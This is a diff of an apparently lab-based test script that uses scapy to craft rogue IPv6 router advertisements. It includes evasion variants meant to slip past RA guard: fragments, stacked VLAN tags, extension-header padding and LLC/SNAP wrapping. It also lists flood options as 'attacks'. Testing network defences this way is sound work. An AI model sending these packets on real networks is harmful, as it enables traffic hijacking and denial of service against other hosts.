@@ -22,24 +22,7 @@ flood() { # flood OPTION...
 }
 
 wrapped() { # wrapped EXPRESSION: an advertisement behind that
-	scapy alice "$1" <<-'END' || true
-		src = get_if_hwaddr("lanparty0")
-		ra = ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptPrefixInfo(prefix="fd66:6::", prefixlen=64) \
-		    / ICMPv6NDOptSrcLLAddr(lladdr=src)
-		ip = IPv6(src="fe80::66", dst="ff02::1", hlim=255)
-		eth = Ether(src=src, dst="33:33:00:00:00:01")
-		options = lambda n: [IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]) for _ in range(n)]
-		def chain(parts):
-		    out = parts[0]
-		    for part in parts[1:]:
-		        out = out / part
-		    return out
-		def fragments(cut):
-		    return [eth / f for f in fragment6(ip / IPv6ExtHdrFragment() / ra, cut)]
-		frames = eval(sys.argv[1])
-		for frame in frames if isinstance(frames, list) else [frames]:
-		    sendp(frame, iface="lanparty0")
-	END
+	send_crafted alice lanparty0 "$1"
 }
 
 routers() { # what the PC has got from a router
@@ -80,6 +63,7 @@ attacks=( # those that a Linux host falls for
 	'wrapped eth/Dot1Q(vlan=0)/Dot1Q(vlan=0)/ip/ra'
 	'wrapped eth/Dot1AD(vlan=0)/ip/ra'
 )
+expressions=()
 others=( # for Windows and BSD; and from made-up MACs, which no policy allows
 	'flood'
 	'flood -H'
@@ -92,8 +76,27 @@ others=( # for Windows and BSD; and from made-up MACs, which no policy allows
 	'flood -D'
 	'wrapped fragments(60)'
 	'wrapped eth/ip/IPv6ExtHdrFragment()/ra'
-	'wrapped Dot3(src=src,dst="33:33:00:00:00:01")/LLC(dsap=0xaa,ssap=0xaa,ctrl=3)/SNAP(OUI=0,code=0x86dd)/ip/ra'
+	'wrapped Dot3(src=alice,dst="33:33:00:00:00:01")/LLC(dsap=0xaa,ssap=0xaa,ctrl=3)/SNAP(OUI=0,code=0x86dd)/ip/ra'
 )
+
+for attack in "${attacks[@]}" "${others[@]}"; do
+	[[ $attack != wrapped* ]] || expressions+=("${attack#wrapped }")
+done
+craft "${expressions[@]}" <<-'END'
+	ra = ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptPrefixInfo(prefix="fd66:6::", prefixlen=64) \
+	    / ICMPv6NDOptSrcLLAddr(lladdr=alice)
+	ip = IPv6(src="fe80::66", dst="ff02::1", hlim=255)
+	eth = Ether(src=alice, dst="33:33:00:00:00:01")
+	def options(n):
+	    return [IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]) for _ in range(n)]
+	def chain(parts):
+	    out = parts[0]
+	    for part in parts[1:]:
+	        out = out / part
+	    return out
+	def fragments(cut):
+	    return [eth / f for f in fragment6(ip / IPv6ExtHdrFragment() / ra, cut)]
+END
 
 forget
 for attack in "${attacks[@]}" "${others[@]}"; do
